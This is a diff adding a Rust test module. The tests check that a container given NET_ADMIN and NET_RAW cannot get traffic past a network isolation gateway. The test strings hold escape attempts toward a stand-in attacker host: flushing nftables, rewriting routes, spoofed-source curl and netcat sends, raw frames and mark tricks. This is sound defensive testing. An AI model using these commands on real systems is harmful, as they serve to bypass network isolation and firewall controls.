@@ -1,0 +1,109 @@
+//! Root in the container with CAP_NET_ADMIN and CAP_NET_RAW, doing its worst: the wire must stay clean.
+
+use crate::Test;
+use crate::bed::Bed;
+use crate::filter::{denied_probes, nothing_leaks_while};
+use crate::hosts::ATTACKER;
+
+/// Docker's flags that hand out the capabilities.
+const ARMED: &[&str] = &["--cap-add", "NET_ADMIN", "--cap-add", "NET_RAW"];
+
+pub(crate) const TESTS: &[Test] = &[
+    ("flushing_nftables_and_rewriting_routes_opens_nothing", flush),
+    ("foreign_addresses_open_nothing", foreign_addresses),
+    ("raw_frames_and_raw_protocols_stay_inside", frames),
+    ("raw_frames_with_default_capabilities_stay_inside", default_frames),
+    ("rtnetlink_into_other_namespaces_is_refused", rtnetlink),
+    ("rtnetlink_from_an_exec_with_privileges_is_refused", privileged_exec),
+    ("a_mark_opens_nothing", mark),
+    ("net_admin_works_on_the_containers_own_namespace", own_namespace),
+];
+
+fn flush(bed: &Bed) {
+    let container = bed.sleeper(ARMED);
+    nothing_leaks_while(bed, &container, || {
+        container.exec(
+            "nft flush ruleset; nft add table inet mine; ip rule flush; ip rule add lookup main;
+             ip route replace 203.0.113.0/24 dev eth0; ip route replace 198.51.100.20/32 dev eth0 onlink",
+        );
+        for target in ["203.0.113.66:22", "198.51.100.20:22", "203.0.113.66:8080"] {
+            let said = container.exec(&format!("attacker probe tcp {target}")).stdout;
+            assert!(!said.starts_with("connected"), "{target}: {said}");
+        }
+        container.exec("ip route flush 203.0.113.0/24; ip route flush 198.51.100.20/32");
+        denied_probes(&container);
+    });
+}
+
+fn foreign_addresses(bed: &Bed) {
+    let container = bed.sleeper(ARMED);
+    nothing_leaks_while(bed, &container, || {
+        container.exec(
+            "ip addr add 198.51.100.77/32 dev eth0; ip addr add 172.17.99.99/16 dev eth0; ip addr add 2001:db8:7::7/64 dev eth0;
+             ip link add link eth0 name ev0 type macvlan; ip link set ev0 up;
+             ip link add link eth0 name ev1 type vlan id 7; ip link set ev1 up",
+        );
+        for source in ["198.51.100.77", "172.17.99.99"] {
+            container.exec(&format!("curl -sS -m 2 --interface {source} http://{}/", ATTACKER.v4)).must_fail();
+            container.exec(&format!("echo x | timeout 2 nc -u -w 1 -s {source} {} 9999", ATTACKER.v4));
+        }
+    });
+}
+
+fn frames(bed: &Bed) {
+    let container = bed.sleeper(ARMED);
+    nothing_leaks_while(bed, &container, || {
+        let said = container
+            .exec(&format!("attacker frames eth0 {0}; attacker raw {0}; attacker raw 2001:db8:2::66", ATTACKER.v4));
+        assert!(
+            said.must_succeed().stdout.contains("bypass true: sent"),
+            "the attack failed by itself: {}",
+            said.stdout
+        );
+    });
+}
+
+fn default_frames(bed: &Bed) {
+    let container = bed.sleeper(&[]);
+    nothing_leaks_while(bed, &container, || {
+        container.exec(&format!("attacker frames eth0 {0}; attacker raw {0}", ATTACKER.v4));
+    });
+}
+
+fn rtnetlink(bed: &Bed) {
+    let container = bed.sleeper(ARMED);
+    let said = container.exec("attacker rtnetlink eth0").must_succeed().stdout.clone();
+    nothing_was_permitted(&said);
+}
+
+fn privileged_exec(bed: &Bed) {
+    let container = bed.sleeper(&[]);
+    let answer = bed.docker(&["exec", "--privileged", &container.name, "attacker", "rtnetlink", "eth0"]);
+    nothing_was_permitted(&answer.stdout);
+}
+
+/// Numbering a namespace that one can see already is harmless; acting in one isn't.
+fn nothing_was_permitted(said: &str) {
+    let acts: Vec<&str> = said.lines().filter(|line| !line.starts_with("number a namespace")).collect();
+    let permitted: Vec<&&str> = acts.iter().filter(|line| line.ends_with("permitted")).collect();
+    assert!(permitted.is_empty(), "{permitted:#?}");
+    assert!(!said.is_empty());
+}
+
+/// SO_MARK needs only CAP_NET_RAW: whatever mark the gateway uses, a container's own must mean nothing there.
+fn mark(bed: &Bed) {
+    let container = bed.sleeper(ARMED);
+    nothing_leaks_while(bed, &container, || {
+        container.exec(
+            "nft add table inet m; nft add chain inet m o '{ type route hook output priority 0; }';
+             for mark in 1 2 0x10 0xb0 0xff 0xffffffff; do nft flush chain inet m o; nft add rule inet m o meta mark set $mark;
+             attacker probe tcp 203.0.113.66:22; done; nft flush ruleset",
+        );
+    });
+}
+
+fn own_namespace(bed: &Bed) {
+    let script =
+        "ip link add d0 type bridge && ip link set d0 up && ip addr add 10.9.9.9/24 dev d0 && nft add table inet mine";
+    bed.run(ARMED, script).must_succeed();
+}
